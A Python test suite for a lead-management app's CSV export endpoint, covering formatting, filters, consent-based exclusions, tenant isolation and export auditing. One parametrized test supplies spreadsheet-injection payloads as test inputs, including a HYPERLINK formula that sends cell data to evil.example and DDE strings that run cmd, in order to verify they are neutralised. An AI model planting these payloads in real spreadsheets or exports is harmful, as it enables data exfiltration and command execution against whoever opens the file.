"""The CSV file over HTTP, on a real PostgreSQL: what is in it, what is left out, who took it."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from uuid import uuid4

import psycopg
import pytest

from leadfly.app import create_app
from services.leads import csv_cells, export
from services.leads.export_openapi import EXPORT_OPERATIONS
from shared.privacy.modes import MODES
from shared.web.openapi import openapi_path
from tests.leadfly.test_openapi import holds
from tests.services.leads.account import Account
from tests.services.leads.test_bulk import seeded
from tests.services.leads.test_export_cells import FORBIDDEN

FILE = "/leads/export.csv"


@pytest.fixture
def account(app, user_id):
    return Account(app, user_id)


@pytest.fixture
def exported(account):
    """Return the rows of a file as dictionaries."""
    return lambda **query: rows(account, **query)


def file(account, expect=200, **query):
    answer = account.client.get(
        f"/api/v1/lead-discovery{FILE}", query_string={"user_id": account.user_id} | query
    )
    assert answer.status_code == expect, answer.text
    return answer


def rows(account, **query):
    text = file(account, **query).data.decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_lead_is_a_row_that_says_what_the_lead_says(account, exported):
    lead_id = account.lead(company="Analytical Engines, “Ltd”", job_title='"Countess"\nof L.')
    account.ask("PUT", f"/leads/{lead_id}", tags=["a b", "c"], assigned_to="sam")
    lead = account.ask("GET", f"/leads/{lead_id}")["lead"]

    (row,) = exported()

    for name in ("id", "first_name", "last_name", "company", "job_title", "email", "status"):
        assert row[name] == lead[name], name
    assert (row["assigned_to"], row["tags"], row["phone"]) == ("sam", "a b; c", "")
    at = datetime.fromisoformat(row["received_at"])
    assert at == datetime.fromisoformat(lead["received_at"])


def test_the_file_is_as_rfc_4180_has_it(account):
    account.lead(company="a,b\r\nc")

    answer = file(account)

    assert answer.content_type == "text/csv; charset=utf-8; header=present"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="leads.csv"'
    assert answer.data.startswith(b"id,name,")
    assert b'"a,b\r\nc"' in answer.data
    assert answer.data.endswith(b"\r\n")


def test_without_leads_there_is_a_header_line(account):
    assert file(account).data == (",".join(csv_cells.HEADER) + "\r\n").encode()


def test_a_byte_order_mark_comes_if_it_is_asked_for(account):
    assert file(account, bom="true").data.startswith(b"\xef\xbb\xbfid,")


def test_a_phone_number_stays_readable_and_is_no_formula(account, exported):
    account.lead(phone="+1-555-123-4567")

    assert exported()[0]["phone"] == "'+1-555-123-4567"


@pytest.mark.parametrize(
    "evil",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?x="&A1,"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1＋1",
        "＋1",
        "\u200b=1+1",
        " =1+1",
        'x";=1+1;"',
        "x\n=1+1",
    ],
)
def test_what_a_form_sends_never_becomes_a_formula(account, exported, evil):
    account.lead(company=evil, job_title=evil)

    (row,) = exported()

    for cell in row.values():
        assert not cell.startswith(FORBIDDEN)
    for read_otherwise in ";", "\t":
        text = file(account).data.decode()
        for line in csv.reader(io.StringIO(text), delimiter=read_otherwise):
            assert not any(cell.lstrip(' "').startswith(FORBIDDEN[:4]) for cell in line)


def test_a_lead_in_the_south_and_west_has_no_cell_that_is_a_sum(account, exported):
    account.lead(city="Buenos Aires", country="AR")

    (row,) = exported()

    assert row["coordinates"].startswith("geo:-34.")
    assert not any(cell.startswith(FORBIDDEN) for cell in row.values())


# Which leads -------------------------------------------------------------------------------------


def test_the_file_has_the_leads_that_the_list_has(account, exported):
    ids = account.leads(5)
    account.ask("PUT", f"/leads/{ids[0]}", status="contacted")
    account.lead()
    account.lead(source_id="again")

    for query in ({}, {"status": "contacted"}, {"source_id": "fair"}, {"duplicates": "true"}):
        listed = account.client.get(
            "/api/v1/lead-discovery/leads", query_string={"user_id": account.user_id} | query
        ).json["leads"]
        assert {row["id"] for row in exported(**query)} == {lead["id"] for lead in listed}, query


def test_a_file_of_many_pages_has_every_lead_once(account, exported, owner_conninfo, user_id):
    number = 2 * export.PAGE + 7
    with psycopg.connect(owner_conninfo) as owner:
        seeded(owner, user_id, number)

    ids = [row["id"] for row in exported()]

    assert ids == sorted(set(ids))
    assert len(ids) == number


def test_no_transaction_is_open_while_a_page_is_read(account, app, owner_conninfo, user_id):
    with psycopg.connect(owner_conninfo) as owner:
        seeded(owner, user_id, export.PAGE + 1)
    pieces = file(account).iter_encoded()
    next(pieces)

    with psycopg.connect(owner_conninfo) as owner:
        (waiting,) = owner.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE state LIKE 'idle in transaction%%' "
            "AND usename = 'leadfly_app'"
        ).fetchone()
    assert waiting == 0
    assert len(list(pieces)) == 1


@pytest.mark.parametrize(
    ("expect", "query"),
    [
        (400, {"statsu": "new"}),
        (400, {"status": "won"}),
        (400, {"purpose": "spying"}),
        (400, {"bom": "perhaps"}),
        (400, {"radius_km": "0", "near": "Austin, TX"}),
        (422, {"near": "Xyzzyplugh"}),
        (404, {"investigation_id": "00000000-0000-7000-8000-000000000001"}),
    ],
    ids=str,
)
def test_what_cannot_be_is_refused_before_anything_is_sent(account, expect, query):
    error = file(account, expect, **query).json["error"]

    assert set(error["details"]) & set(query)
    assert account.ask("GET", "/exports")["count"] == 0


def test_other_accounts_leads_are_in_no_file(app, account, exported):
    account.leads(1)
    Account(app, uuid4().hex).leads(2)

    assert len(exported()) == 1


# Consent -----------------------------------------------------------------------------------------


@pytest.fixture
def withdrawn(owner_conninfo, user_id):
    """Take back every consent that was recorded for a lead."""

    def withdrawn(lead_id):
        with psycopg.connect(owner_conninfo) as owner:
            owner.execute(
                "UPDATE public.consents SET withdrawn_at = now() "
                "WHERE tenant_id = %s AND lead_id = %s",
                [user_id, lead_id],
            )

    return withdrawn


def export_of(account, answer):
    return account.ask("GET", f"/exports/{answer.headers['X-Export-ID']}")["export"]


def test_who_withdrew_the_latest_consent_is_left_out_in_every_mode(account, withdrawn):
    withdrawn(account.lead(consent=["contact"]))
    kept = account.leads(1)

    answer = file(account)

    assert [row["id"] for row in rows(account)] == kept
    assert (export_of(account, answer)["leads"], export_of(account, answer)["left_out"]) == (1, 1)


def test_who_agreed_again_is_not_left_out(account, withdrawn, exported):
    withdrawn(account.lead(consent=["contact"]))
    account.lead(consent=["contact"], source_id="again")

    assert len(exported()) == 1


def test_who_withdrew_with_a_later_record_is_left_out(account, withdrawn, exported):
    account.lead(consent=["contact"])
    withdrawn(account.lead(consent=["contact"], source_id="again"))

    assert exported() == []


def test_where_the_mode_asks_for_consent_a_purpose_must_be_covered(local_settings, user_id):
    app = create_app(replace(local_settings, mode=MODES["gdpr_strict"]))
    account = Account(app, user_id)
    both = account.lead(consent=["lead_processing", "marketing"], phone="+44 20 7946 0958")
    account.lead(
        consent=["lead_processing"],
        email="grace@cobol.example",
        first_name="Grace",
        last_name="Hopper",
    )

    answer = file(account, purpose="marketing")

    (row,) = csv.DictReader(io.StringIO(answer.data.decode(), newline=""))
    assert (row["id"], row["first_name"], row["phone"]) == (both, "Ada", "'+44 20 7946 0958")
    assert export_of(account, answer)["left_out"] == 1
    assert len(rows(account)) == 2
    assert rows(account, purpose="sharing") == []
    app.extensions["leadfly"].database.close()


# The audit ---------------------------------------------------------------------------------------


def test_every_export_is_written_down_without_what_was_searched_for(account):
    account.leads(2)
    answer = file(account, search="Secretname", status="new", min_signal_strength="0")

    made = export_of(account, answer)

    assert made["filter"] == {"search": True, "status": "new"}
    assert (made["purpose"], made["begun_by"], made["leads"]) == ("lead_processing", "local", 0)
    assert datetime.fromisoformat(made["begun_at"]) <= datetime.fromisoformat(made["ended_at"])
    assert account.ask("GET", "/exports")["exports"] == [made]
    assert "Secretname" not in json.dumps(made)


def test_an_export_that_broke_off_is_written_down_with_what_left(account, owner_conninfo, user_id):
    with psycopg.connect(owner_conninfo) as owner:
        seeded(owner, user_id, 3 * export.PAGE)
    answer = file_unread(account)
    next(answer.iter_encoded())
    answer.close()

    made = export_of(account, answer)

    assert (made["leads"], made["ended_at"]) == (export.PAGE, None)


def file_unread(account):
    return account.client.get(
        f"/api/v1/lead-discovery{FILE}", query_string={"user_id": account.user_id}, buffered=False
    )


def test_exports_of_another_account_are_none(app, account):
    made = file(account).headers["X-Export-ID"]
    stranger = Account(app, uuid4().hex)

    for named in (made, str(uuid4())):
        stranger.ask("GET", f"/exports/{named}", 404)
    assert stranger.ask("GET", "/exports")["count"] == 0


def test_every_answer_is_as_described(client, account):
    document = client.get("/openapi.json").json
    account.leads(1)
    made = file(account).headers["X-Export-ID"]

    for operation in EXPORT_OPERATIONS[1:]:
        about = document["paths"][openapi_path(operation.path)]["get"]
        path = operation.path.removeprefix("/api/v1/lead-discovery").replace("<export_id>", made)
        assert holds(document, about, 200, account.ask("GET", path)) == []


def test_the_times_of_a_file_are_in_utc(account, exported):
    account.leads(1)

    at = exported()[0]["received_at"]

    assert at.endswith("Z")
    assert datetime.fromisoformat(at).tzinfo == UTC
